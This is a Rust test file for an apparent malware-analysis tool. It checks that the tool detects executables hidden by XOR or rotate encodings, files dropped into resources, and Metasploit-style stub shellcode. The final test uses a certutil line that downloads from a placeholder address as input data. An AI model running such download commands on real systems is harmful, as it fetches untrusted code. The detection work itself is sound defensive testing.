//! Files hidden by an encoding, and code without a file.

use super::build::{self, noise};
use super::{look, packet};
use crate::report::{Budget, FoundBy, Kind, State};

/// A way to hide a file's bytes, given a byte's number and value.
type Hide = fn(usize, u8) -> u8;

#[test]
fn hidden_files_are_found_with_their_key() {
    let ways: [(&str, Hide); 6] = [
        ("xor 5a", |_, byte| byte ^ 0x5a),
        ("xor ff", |_, byte| byte ^ 0xff),
        ("xor 01 a2 43 e4", |at, byte| byte ^ [1, 0xa2, 0x43, 0xe4][at % 4]),
        ("add 13", |_, byte| byte.wrapping_add(0x13)),
        ("rol 3", |_, byte| byte.rotate_left(3)),
        ("rol 7", |_, byte| byte.rotate_left(7)),
    ];
    let file = build::pe(&[("W", 101, noise(3000, 1))]);
    for (name, hide) in ways {
        for front in [0, 1, 2, 3, 4, 5, 6, 7, 777] {
            let hidden: Vec<u8> = file.iter().enumerate().map(|(at, &byte)| hide(at, byte)).collect();
            let sample = [noise(front, 2), hidden, noise(99, 3)].concat();
            let report = look(&sample, &Budget::default());
            let layer = &report.layers[1];
            assert_eq!((layer.kind, layer.found_by), (Kind::Pe, FoundBy::Decoded), "{name}");
            assert_eq!((layer.encoding.as_str(), layer.offset), (name, front as u64));
            assert_eq!((&layer.hashes, layer.state), (&crate::facts::hashes(&file), State::Intact));
            assert_eq!(report.core, Some(1));
        }
    }
}

#[test]
fn droppers_hide_files_in_resources_and_sections() {
    let file = build::pe(&[]);
    let hidden: Vec<u8> = file.iter().map(|byte| byte ^ 0xa7).collect();
    let report = look(&build::pe(&[("BIN", 7, [noise(50, 1), hidden.clone()].concat())]), &Budget::default());
    let kinds: Vec<_> = report.layers.iter().map(|layer| (layer.kind, layer.encoding.as_str())).collect();
    assert_eq!(kinds, [(Kind::Pe, ""), (Kind::Resource, ""), (Kind::Pe, "xor a7")]);
    assert_eq!(report.core, Some(0));
    let mut carrier = crate::pe::tests::look_alike(crate::pe::Machine::X86, 0x2000, 3);
    carrier[0x900..0x900 + hidden.len()].copy_from_slice(&hidden);
    let report = look(&carrier, &Budget::default());
    assert_eq!((report.layers[1].offset, report.layers[1].encoding.as_str()), (0x900, "xor a7"));
}

#[test]
fn e_lfanew_may_start_with_a_zero_and_the_end_may_be_missing() {
    // Its headers one page half later: e_lfanew is 0x100.
    let file = crate::pe::tests::look_alike(crate::pe::Machine::X64, 0x1000, 1);
    let mut moved = file.clone();
    moved[0x3c..0x3e].copy_from_slice(&[0, 1]);
    moved.splice(0x80..0x80, [0; 0x80]);
    let table = 0x80 + 0x98 + 240;
    moved[table + 21] = 3;
    moved[0x280..0x300].fill(9);
    let hidden: Vec<u8> = moved[..0x800].iter().map(|byte| byte ^ 0x77).collect();
    let report = look(&hidden, &Budget::default());
    assert_eq!((report.layers[1].encoding.as_str(), report.layers[1].state), ("xor 77", State::Truncated));
}

#[test]
fn runs_of_one_value_cost_little_and_hide_nothing() {
    let mut marks = Vec::new();
    for n in 0..20_000u32 {
        marks.extend([b'M' ^ 0x55, b'Z' ^ 0x55]);
        marks.extend([0x55; 58]);
        marks.extend(n.to_le_bytes());
    }
    let report = look(&marks, &Budget { candidates_max: 100, ..Budget::default() });
    assert_eq!((report.layers.len(), report.remarks.len()), (1, 1));
    for sample in [vec![0; 100_000], vec![0x55; 100_000], noise(100_000, 1)] {
        assert_eq!(look(&sample, &Budget::default()).layers.len(), 1);
    }
}

#[test]
fn the_single_packet_has_a_stub_code_and_filling() {
    let report = look(&packet(300), &Budget::default());
    let layers: Vec<_> = report.layers.iter().map(|layer| (layer.kind, layer.offset, layer.size)).collect();
    let expected = [
        (Kind::Payload, 0, 4096),
        (Kind::Stub, 0, 780),
        (Kind::Shellcode, 782, 300),
        (Kind::Padding, 1082, 3014),
    ];
    assert_eq!((layers.as_slice(), report.core), (expected.as_slice(), Some(2)));
    assert_eq!(report.layers[1].name, "metasploit-x64");
    assert_eq!(report.layers[1].facts.stub.as_ref().unwrap().name, "metasploit-x64");
    for other in [packet(0), packet(4000), packet(300)[..4095].to_vec(), b"abcd".repeat(1024)] {
        assert_eq!(look(&other, &Budget::default()).layers.len(), 1);
    }
}

#[test]
fn what_is_no_file_is_text_or_data() {
    let kind = |sample: &[u8]| look(sample, &Budget::default()).layers[0].kind;
    assert_eq!(kind(b"@echo off\r\ncertutil -urlcache http://192.0.2.1/a"), Kind::Text);
    assert_eq!(kind(b"\xff\xfeh\0e\0l\0l\0o\0"), Kind::Text);
    assert_eq!(kind(&noise(300, 1)), Kind::Data);
    assert_eq!(kind(&[]), Kind::Data);
}
